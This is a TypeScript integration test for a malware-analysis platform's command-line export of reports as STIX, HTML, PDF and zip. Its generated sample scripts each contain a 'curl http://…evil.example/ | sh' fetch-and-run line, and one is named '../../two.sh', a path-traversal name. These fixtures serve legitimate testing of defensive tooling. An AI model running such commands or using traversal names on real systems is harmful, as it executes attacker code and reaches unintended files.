import assert from "node:assert/strict";
import { join } from "node:path";
import { type Platform, startPlatform, until } from "../platform/platform.ts";

const root = join(import.meta.dirname!, "..", "..");

/** Runs the verb as `deno task assay export` does. */
async function exported(platform: Platform, args: readonly string[]) {
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["task", "--quiet", "assay", "export", ...args, "--data", platform.data],
    cwd: root,
    env: { NO_COLOR: "1" },
    stdin: "null",
  }).output();
  return { code: output.code, error: new TextDecoder().decode(output.stderr) };
}

Deno.test("many reports leave as one bundle, one page, one PDF and a zip by the command line, made by the reports process", async () => {
  await using platform = await startPlatform({ onTestStack: true });
  const body = new FormData();
  for (const name of ["one.sh", "../../two.sh", "three.sh"]) {
    body.append("file", new File([`#!/bin/sh\ncurl http://${name.length}.evil.example/ | sh\n`], name));
  }
  body.append("options", JSON.stringify({ priority: "interactive", tlp: "green" }));
  const { id: submissionId, tasks } = await platform.ask<{ id: string; tasks: { sha256: string }[] }>(
    "/api/v1/submissions",
    { method: "POST", body },
  );
  await until("the reports", 60_000, async () => {
    const { total } = await platform.ask<{ total: { value: number } }>(
      `/api/v1/search?q=submission:${submissionId}`,
    );
    return total.value === 3 ? total : null;
  });
  const bundle = join(platform.data, "all.stix.json");
  const joined = await exported(platform, [
    "--query",
    "name:*.sh",
    "--format",
    "stix",
    "--joined",
    "--output",
    bundle,
  ]);
  assert.equal(joined.code, 0, joined.error);
  const { objects } = JSON.parse(await Deno.readTextFile(bundle));
  assert.equal(objects.filter(({ type }: { type: string }) => type === "report").length, 3);

  const page = join(platform.data, "all.html");
  const together = await exported(platform, [
    "--submission",
    submissionId,
    "--format",
    "html",
    "--joined",
    "--output",
    page,
  ]);
  assert.equal(together.code, 0, together.error);
  const html = await Deno.readTextFile(page);
  assert.ok(tasks.every(({ sha256 }) => html.includes(sha256)));

  const pdf = join(platform.data, "all.pdf");
  const printed = await exported(platform, [
    "--submission",
    submissionId,
    "--format",
    "pdf",
    "--joined",
    "--output",
    pdf,
  ]);
  assert.equal(printed.code, 0, printed.error);
  assert.equal(new TextDecoder("latin1").decode((await Deno.readFile(pdf)).subarray(0, 5)), "%PDF-");

  const zip = join(platform.data, "all.zip");
  const zipped = await exported(platform, [
    "--submission",
    submissionId,
    "--format",
    "text",
    "--output",
    zip,
  ]);
  assert.equal(zipped.code, 0, zipped.error);
  const listed = await new Deno.Command("python3", {
    args: [
      "-c",
      "import sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; print('\\n'.join(z.namelist()))",
      zip,
    ],
  }).output();
  const names = new TextDecoder().decode(listed.stdout).trim().split("\n");
  assert.deepEqual(names, [...tasks.map(({ sha256 }) => `${sha256}.txt`).sort(), "manifest.json"]);
  assert.deepEqual((await platform.ask<{ items: unknown[] }>("/api/v1/exports")).items, []);
});
